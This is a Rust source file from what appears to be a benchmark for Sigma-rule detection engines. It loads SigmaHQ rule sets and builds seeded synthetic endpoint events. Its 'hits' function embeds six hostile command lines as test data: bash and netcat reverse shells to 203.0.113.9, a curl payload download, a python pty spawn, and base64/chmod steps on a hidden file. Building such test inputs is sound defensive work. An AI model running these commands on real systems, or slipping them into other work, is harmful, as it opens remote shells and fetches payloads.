//! Rules and events, the same for every engine.

use std::collections::BTreeMap;
use std::fs;
use std::io;
use std::path::Path;

use lavender_benches::{SEED, events, rules};

use crate::observed::{Category, Observed, Scalar};

/// Rules under a name.
#[derive(Clone, Debug)]
pub struct RuleTexts {
    /// What the table calls them.
    pub name: String,
    /// One text a file.
    pub texts: Vec<String>,
}

impl RuleTexts {
    /// Rules that look like public ones and match none of the ordinary events.
    pub fn generated(count: usize) -> Self {
        let text = rules(SEED, count);
        let texts = text.split("---\n").filter(|part| !part.trim().is_empty());
        Self { name: format!("generated {count}"), texts: texts.map(str::to_owned).collect() }
    }

    /// The public rules' sets, from a copy of the SigmaHQ repository: those for what an endpoint sensor on Linux
    /// sees; all for Linux; all.
    ///
    /// # Errors
    ///
    /// When a file cannot be read.
    pub fn public(root: &Path) -> io::Result<Vec<Self>> {
        let mut linux = BTreeMap::new();
        read(&root.join("rules/linux"), &mut linux)?;
        let mut all = BTreeMap::new();
        read(&root.join("rules"), &mut all)?;
        let category = |text: &str| {
            let line = text.lines().find_map(|line| line.trim().strip_prefix("category:"));
            line.map(|name| name.trim().to_owned())
        };
        let endpoint: Vec<String> = linux
            .values()
            .filter(|text| {
                category(text).is_some_and(|name| Category::ALL.iter().any(|c| c.name() == name))
            })
            .cloned()
            .collect();
        let set = |name: &str, texts: Vec<String>| Self {
            name: format!("{name} {}", texts.len()),
            texts,
        };
        Ok(vec![
            set("endpoint", endpoint),
            set("linux", linux.into_values().collect()),
            set("all", all.into_values().collect()),
        ])
    }
}

fn read(directory: &Path, files: &mut BTreeMap<String, String>) -> io::Result<()> {
    for entry in fs::read_dir(directory)? {
        let path = entry?.path();
        if path.is_dir() {
            read(&path, files)?;
        } else if path.extension().is_some_and(|extension| extension == "yml") {
            files.insert(path.to_string_lossy().into_owned(), fs::read_to_string(&path)?);
        }
    }
    Ok(())
}

/// The seeded events: 45 % program starts, 35 % files, 20 % connects, 0.5 % of them hostile.
///
/// # Errors
///
/// Never: the names in the corpus are valid.
pub fn ordinary(count: usize) -> Result<Vec<Observed>, lavender_core::IdError> {
    let events = events(SEED, count)?;
    Ok(events.iter().filter_map(|event| Observed::of(event)).collect())
}

/// Events most of which match something: what an engine costs when it finds.
pub fn hits(ordinary: &[Observed]) -> Vec<Observed> {
    const HOSTILE: [(&str, &str); 6] = [
        ("/usr/bin/bash", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
        ("/usr/bin/base64", "base64 -d /tmp/.x12"),
        ("/usr/bin/python3.11", "python3 -c import pty;pty.spawn(\"/bin/sh\")"),
        ("/usr/bin/nc", "nc -e /bin/sh 203.0.113.9 4444"),
        ("/usr/bin/curl", "curl -o /tmp/p.sh http://203.0.113.9/p.sh"),
        ("/usr/bin/chmod", "chmod 777 /tmp/.x12"),
    ];
    let mut rng = fastrand::Rng::with_seed(SEED);
    let processes = ordinary.iter().filter(|event| event.category == Category::ProcessCreation);
    processes
        .map(|event| {
            let (image, line) = HOSTILE[rng.usize(..HOSTILE.len())];
            let mut event = event.clone();
            event.set("Image", Scalar::Text(image.into()));
            event.set("CommandLine", Scalar::Text(line.into()));
            event
        })
        .collect()
}

/// Events made to come near to many rules and match few: long command lines of the rules' own words.
pub fn adversarial(ordinary: &[Observed], rules: &RuleTexts) -> Vec<Observed> {
    let words: Vec<&str> = rules
        .texts
        .iter()
        .flat_map(|text| text.lines())
        .filter_map(|line| line.trim().strip_prefix("- "))
        .map(|value| value.trim_matches(['\'', '"']))
        .filter(|value| (3..40).contains(&value.len()))
        .collect();
    let mut rng = fastrand::Rng::with_seed(SEED);
    let processes = ordinary.iter().filter(|event| event.category == Category::ProcessCreation);
    processes
        .map(|event| {
            let mut line = String::new();
            while line.len() < 1_500 && !words.is_empty() {
                line += words[rng.usize(..words.len())];
                line.push(' ');
            }
            let mut event = event.clone();
            event.set("CommandLine", Scalar::Text(line));
            event
        })
        .collect()
}
